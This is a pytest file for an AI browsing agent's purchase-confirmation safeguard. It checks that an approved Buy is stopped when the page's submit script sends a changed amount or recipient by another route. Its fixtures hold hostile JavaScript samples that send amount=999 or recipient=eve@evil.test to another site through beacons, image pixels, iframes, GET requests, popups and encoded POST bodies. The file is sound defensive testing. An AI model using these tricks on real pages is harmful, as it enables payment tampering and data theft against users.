"""What an approved action's page sends, the rest of it (session 19, confirm29): an approved Buy whose submit
listener sends a changed amount or recipient by another way than its form is stopped: from a popup it opens (a
blank one its script writes into, or a page of the shop that submits itself), in the address of a frame of another
site, of a fetch or XHR by GET, a beacon or an image, or encoded (base64, or JSON percent-encoded twice). An ordinary
shop whose submit also sends analytics by GET and a beacon to another site, and opens a payment popup that posts
the amount shown, still runs on its approval. A real run with a real browser against servers on 127.0.0.1; only the
model is scripted."""

from __future__ import annotations

from pathlib import Path

import pytest
from agent_helpers import SignalSite, approved_run, call, serve

from gofer.events import ConfirmationRequested, Observation, RunStatus

FORM = """<!doctype html><title>Blue mug</title><h1>Blue mug</h1>
<p>Blue mug, $5. Ships to ann@shop.test</p>
<form method=post action=/order id=f>
<input type=hidden name=csrf_token value=Zq81bX0aa7Yt3kP2mN9v4RcW>
<input type=hidden name=amount value=5>
<input type=hidden name=recipient value=ann@shop.test>
<button>Buy</button></form>
<script>
const OTHER = '%(other)s';
const form = document.getElementById('f');
form.addEventListener('submit', (e) => { %(on_submit)s });
fetch('/changed');
</script>"""

_STOP = "e.preventDefault(); "
_POST = "fetch('/order', {method: 'POST', headers: {'content-type': 'application/x-www-form-urlencoded'}, body: %s});"

CASES = {
    "popup-page-submits-itself": _STOP + "window.open('/pay2.html');",
    "frame-of-another-site-by-get": _STOP + "const f = document.createElement('iframe'); "
                                    "f.src = OTHER + '/pay?amt=999'; document.body.appendChild(f);",
    "fetch-by-get": _STOP + "fetch(OTHER + '/c?amount=999');",
    "xhr-by-get": _STOP + "const x = new XMLHttpRequest(); x.open('GET', '/order?amount=999'); x.send();",
    "beacon": _STOP + "navigator.sendBeacon(OTHER + '/b?recipient=eve@evil.test');",
    "image": _STOP + "new Image().src = OTHER + '/p.gif?recipient=eve@evil.test';",
    "base64-json": _STOP + _POST % "'d=' + encodeURIComponent(btoa(JSON.stringify({amount: 999})))",
    "json-encoded-twice": _STOP + _POST % "'d=' + encodeURIComponent(encodeURIComponent(JSON.stringify("
                                          "{order: {amount: 999}})))",
}

NEVER_SENT = {
    # Under the browser's routes Chromium never lets out what a blank popup's written script requests
    "popup-blank-written": _STOP + "const w = window.open('about:blank'); w.document.write(\"<script>fetch('/order', "
                           "{method: 'POST', body: new URLSearchParams({amount: '999'})})<\\/script>\"); "
                           "w.document.close();",
}

PAY2 = """<!doctype html><title>Pay</title><form method=post action=/order id=p>
<input type=hidden name=amount value=999></form><script>document.getElementById('p').submit();</script>"""

SECURE = """<!doctype html><title>Secure payment</title><p>Paying $5</p><form method=post action=/order id=p>
<input type=hidden name=amount value=5><input type=hidden name=recipient value=ann@shop.test></form>
<script>setTimeout(() => document.getElementById('p').submit(), 100);</script>"""


async def _buy(tmp_path: Path, on_submit: str, answers: list[bool]
               ) -> tuple[SignalSite, SignalSite, list[Observation], int, RunStatus]:
    """Open the mug page and click Buy once per answer, each approved or denied in turn. Returns the shop, the
    other site, the clicks' observations, the number of confirmations asked and the run's status."""
    other = SignalSite({})
    with serve(other.handler) as other_url:
        shop = SignalSite({"/mug": FORM % {"other": other_url, "on_submit": on_submit}, "/pay2": PAY2,
                           "/secure": SECURE})
        with serve(shop.handler) as url:
            clicks = [call("browser_click", ref=1) for _ in answers]
            status, events = await approved_run(tmp_path, f"buy the blue mug at {url}/", [
                call("browser_open", url=f"{url}/mug.html"), *clicks], shop.signal, answers)
    asked = len([e for e in events if isinstance(e, ConfirmationRequested)])
    return shop, other, [e for e in events if isinstance(e, Observation) and e.tool == "browser_click"], asked, status


def _sent(*sites: SignalSite) -> list[str]:
    return [f"{path} {body}" for site in sites for path, body in site.posts] + [g for s in sites for g in s.gets]


@pytest.mark.slow
@pytest.mark.parametrize("case", CASES)
async def test_an_approved_submit_that_sends_a_changed_amount_another_way_is_stopped(tmp_path: Path,
                                                                                       case: str) -> None:
    shop, other, clicks, asked, status = await _buy(tmp_path, CASES[case], [True, False])
    assert status == RunStatus.FINISHED
    sent = [s for s in _sent(shop, other) if "999" in s or "evil" in s or "eyJhbW91bnQiOjk5OX0" in s]
    assert sent == [], sent
    assert clicks[0].error and "not done" in clicks[0].error, clicks[0]
    assert asked == 2 or case.startswith("popup")  # the popup is the tab now: its page has no Buy to ask about


@pytest.mark.slow
@pytest.mark.parametrize("case", NEVER_SENT)
async def test_what_a_written_blank_popup_requests_never_leaves(tmp_path: Path, case: str) -> None:
    shop, other, _clicks, _asked, status = await _buy(tmp_path, NEVER_SENT[case], [True, False])
    assert status == RunStatus.FINISHED
    assert [s for s in _sent(shop, other) if "999" in s] == []


@pytest.mark.slow
async def test_a_shop_sending_analytics_and_opening_a_payment_popup_runs_on_its_approval(tmp_path: Path) -> None:
    on_submit = ("fetch(OTHER + '/collect?ev=buy&w=1280&t=' + Date.now() + '&page=mug&v=3'); "
                 "navigator.sendBeacon(OTHER + '/b?ev=buy&n=1&cid=71528861.1716'); "
                 "new Image().src = OTHER + '/px.gif?ev=buy&sr=1280x720&qty=1&ts=' + Date.now(); "
                 "window.open('/secure.html');")
    shop, _other, clicks, asked, status = await _buy(tmp_path, on_submit, [True])
    assert status == RunStatus.FINISHED
    assert asked == 1
    assert not clicks[0].error, clicks[0]
    assert len(shop.posts) == 2 and all("amount=5" in body for body in shop.bodies()), shop.posts
